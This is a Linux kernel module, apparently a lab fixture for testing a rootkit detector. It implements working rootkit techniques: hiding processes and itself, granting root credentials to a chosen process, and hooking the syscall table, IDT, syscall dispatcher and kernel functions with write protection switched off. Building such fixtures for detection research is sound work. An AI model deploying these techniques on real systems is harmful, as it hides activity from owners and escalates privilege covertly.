// SPDX-License-Identifier: GPL-2.0
/*
 * vmsrootkit: a test module that does what rootkits do, so the sentinel's
 * detectors can be tested against the real thing in a lab guest. Each action
 * is chosen by a module parameter; addresses come from /proc/kallsyms, which
 * the test reads as root inside the guest.
 *
 *   hide_pid=N          unlink task N from the task list (it keeps running);
 *                       tasklist_lock_addr=ADDR lets it take the task list's lock
 *   hide_self=1         unlink this module from the module list
 *   root_pid=N          give task N root credentials in place
 *   cred_pid=N init_cred_addr=ADDR
 *                       point task N's credentials at the kernel's own (init_cred), as an exploit's
 *                       commit_creds(&init_cred) does
 *   syscall_table=ADDR syscall_nr=N   overwrite sys_call_table[N] with our handler
 *   idt_table=ADDR idt_vector=N      point IDT gate N at our handler
 *   patch_addr=ADDR     plant a jmp at the start of a kernel function (inline hook)
 *   dispatch_addr=ADDR dispatch_from=ADDR
 *                       in the syscall dispatcher (x64_sys_call, Linux 6.9+ and 6.1.85+), turn
 *                       the call or tail call of dispatch_from (a __x64_sys_* function) to ours
 *   kprobe_hook=1       register a kprobe on __x64_sys_getppid with our handler
 *   ftrace_hook=1       register an ftrace callback on vfs_getattr
 *
 * Unloading it (possible unless hide_self=1) undoes every action, so a
 * benchmark can repeat each technique in one boot.
 */
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("rootkit behaviours for vmsentinel's lab tests");

static int hide_pid;
static int hide_self;
static int root_pid;
static unsigned long syscall_table;
static int syscall_nr = -1;
static unsigned long idt_table;
static int idt_vector = -1;
static unsigned long patch_addr;
module_param(hide_pid, int, 0);
module_param(hide_self, int, 0);
module_param(root_pid, int, 0);
static int cred_pid;
static unsigned long init_cred_addr;
module_param(cred_pid, int, 0);
module_param(init_cred_addr, ulong, 0);
module_param(syscall_table, ulong, 0);
module_param(syscall_nr, int, 0);
module_param(idt_table, ulong, 0);
module_param(idt_vector, int, 0);
module_param(patch_addr, ulong, 0);
static unsigned long dispatch_addr;
static unsigned long dispatch_from;
module_param(dispatch_addr, ulong, 0);
module_param(dispatch_from, ulong, 0);
/* the dispatcher is one function of direct calls: this far in, at most */
#define DISPATCH_SCAN 65536
static int kprobe_hook;
static int ftrace_hook;
module_param(kprobe_hook, int, 0);
module_param(ftrace_hook, int, 0);

static int vms_kprobe_pre(struct kprobe *p, struct pt_regs *regs) { return 0; }
static struct kprobe vms_kprobe = { .symbol_name = "__x64_sys_getppid", .pre_handler = vms_kprobe_pre };

static void vms_ftrace_cb(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *op,
			  struct ftrace_regs *fregs) { }
static struct ftrace_ops vms_ftrace_ops = { .func = vms_ftrace_cb };

static long vms_fake_syscall(const struct pt_regs *regs) { return -ENOSYS; }
static void vms_fake_handler(void) { }

static inline void wp_off(void)
{
	unsigned long cr0 = read_cr0() & ~X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : "+r"(cr0) : : "memory");
}

static inline void wp_on(void)
{
	unsigned long cr0 = read_cr0() | X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : "+r"(cr0) : : "memory");
}

/* tasklist_lock is not exported: its address comes from /proc/kallsyms like the tables' */
static unsigned long tasklist_lock_addr;
module_param(tasklist_lock_addr, ulong, 0);

static void tasks_lock(void)
{
	if (tasklist_lock_addr)
		write_lock_irq((rwlock_t *)tasklist_lock_addr);
}

static void tasks_unlock(void)
{
	if (tasklist_lock_addr)
		write_unlock_irq((rwlock_t *)tasklist_lock_addr);
}

static struct task_struct *hidden_task;
static unsigned long saved_syscall;
static u16 saved_gate[8];
static u8 saved_code[5];
static struct task_struct *cred_task;
static const struct cred *saved_cred, *saved_real_cred;
static s32 *dispatch_site;
static s32 saved_dispatch;
static kuid_t saved_uid[4];
static kgid_t saved_gid[4];
static int kprobe_registered, ftrace_registered;

static struct task_struct *task_of(int nr)
{
	return pid_task(find_vpid(nr), PIDTYPE_PID);
}

static int __init vms_init(void)
{
	struct task_struct *t;

	if (hide_pid > 0 && (t = task_of(hide_pid))) {
		hidden_task = get_task_struct(t);
		tasks_lock();
		list_del_init(&t->tasks);
		tasks_unlock();
	}
	if (root_pid > 0 && (t = task_of(root_pid))) {
		struct cred *c = (struct cred *)t->real_cred;
		saved_uid[0] = c->uid; saved_uid[1] = c->euid; saved_uid[2] = c->suid; saved_uid[3] = c->fsuid;
		saved_gid[0] = c->gid; saved_gid[1] = c->egid; saved_gid[2] = c->sgid; saved_gid[3] = c->fsgid;
		c->uid.val = c->euid.val = c->suid.val = c->fsuid.val = 0;
		c->gid.val = c->egid.val = c->sgid.val = c->fsgid.val = 0;
	}
	if (cred_pid > 0 && init_cred_addr && (t = task_of(cred_pid))) {
		const struct cred *kernel = (const struct cred *)init_cred_addr;

		cred_task = get_task_struct(t);
		saved_cred = t->cred;
		saved_real_cred = t->real_cred;
		get_cred(kernel);
		get_cred(kernel);
		rcu_assign_pointer(t->real_cred, kernel);
		rcu_assign_pointer(t->cred, kernel);
	}
	if (syscall_table && syscall_nr >= 0) {
		saved_syscall = ((unsigned long *)syscall_table)[syscall_nr];
		wp_off();
		((unsigned long *)syscall_table)[syscall_nr] = (unsigned long)vms_fake_syscall;
		wp_on();
	}
	if (idt_table && idt_vector >= 0) {
		unsigned long h = (unsigned long)vms_fake_handler;
		u16 *gate = (u16 *)(idt_table + 16 * idt_vector);
		memcpy(saved_gate, gate, sizeof(saved_gate));
		wp_off();
		gate[0] = h & 0xffff;
		gate[3] = (h >> 16) & 0xffff;
		*(u32 *)(gate + 4) = h >> 32;
		wp_on();
	}
	if (patch_addr) {
		long rel = (long)vms_fake_handler - (long)(patch_addr + 5);
		u8 *p = (u8 *)patch_addr;
		memcpy(saved_code, p, sizeof(saved_code));
		wp_off();
		p[0] = 0xe9;
		*(s32 *)(p + 1) = (s32)rel;
		wp_on();
	}
	if (dispatch_addr && dispatch_from) {
		u8 *p = (u8 *)dispatch_addr;
		int i;

		for (i = 0; i < DISPATCH_SCAN - 5; i++) {
			if ((p[i] == 0xe8 || p[i] == 0xe9) &&
			    dispatch_addr + i + 5 + *(s32 *)(p + i + 1) == dispatch_from) {
				dispatch_site = (s32 *)(p + i + 1);
				break;
			}
		}
		if (dispatch_site) {
			saved_dispatch = *dispatch_site;
			wp_off();
			*dispatch_site = (s32)((long)vms_fake_syscall - ((long)dispatch_site + 4));
			wp_on();
		}
		pr_info("vmsrootkit: dispatcher call %s\n", dispatch_site ? "patched" : "not found");
	}
	if (kprobe_hook)
		kprobe_registered = !register_kprobe(&vms_kprobe);
	if (ftrace_hook) {
		int err = ftrace_set_filter(&vms_ftrace_ops, (unsigned char *)"vfs_getattr", 11, 0);

		if (!err)
			err = register_ftrace_function(&vms_ftrace_ops);
		ftrace_registered = !err;
		pr_info("vmsrootkit: ftrace hook: %d\n", err);
	}
	if (hide_self)
		list_del_init(&THIS_MODULE->list);
	return 0;
}

static void __exit vms_exit(void)
{
	struct task_struct *t;

	if (ftrace_registered)
		unregister_ftrace_function(&vms_ftrace_ops);
	if (kprobe_registered)
		unregister_kprobe(&vms_kprobe);
	if (patch_addr) {
		wp_off();
		memcpy((u8 *)patch_addr, saved_code, sizeof(saved_code));
		wp_on();
	}
	if (dispatch_site) {
		wp_off();
		*dispatch_site = saved_dispatch;
		wp_on();
	}
	if (idt_table && idt_vector >= 0) {
		wp_off();
		memcpy((u16 *)(idt_table + 16 * idt_vector), saved_gate, sizeof(saved_gate));
		wp_on();
	}
	if (syscall_table && syscall_nr >= 0) {
		wp_off();
		((unsigned long *)syscall_table)[syscall_nr] = saved_syscall;
		wp_on();
	}
	if (root_pid > 0 && (t = task_of(root_pid))) {
		struct cred *c = (struct cred *)t->real_cred;
		c->uid = saved_uid[0]; c->euid = saved_uid[1]; c->suid = saved_uid[2]; c->fsuid = saved_uid[3];
		c->gid = saved_gid[0]; c->egid = saved_gid[1]; c->sgid = saved_gid[2]; c->fsgid = saved_gid[3];
	}
	if (cred_task) {
		/* an exec since took new credentials: put back only what is still ours */
		if (cred_task->real_cred == (const struct cred *)init_cred_addr && cred_task->cred == (const struct cred *)init_cred_addr) {
			rcu_assign_pointer(cred_task->real_cred, saved_real_cred);
			rcu_assign_pointer(cred_task->cred, saved_cred);
			put_cred((const struct cred *)init_cred_addr);
			put_cred((const struct cred *)init_cred_addr);
		}
		put_task_struct(cred_task);
	}
	if (hidden_task) {
		tasks_lock();
		if (pid_alive(hidden_task))
			list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
		tasks_unlock();
		put_task_struct(hidden_task);
	}
}

module_init(vms_init);
module_exit(vms_exit);
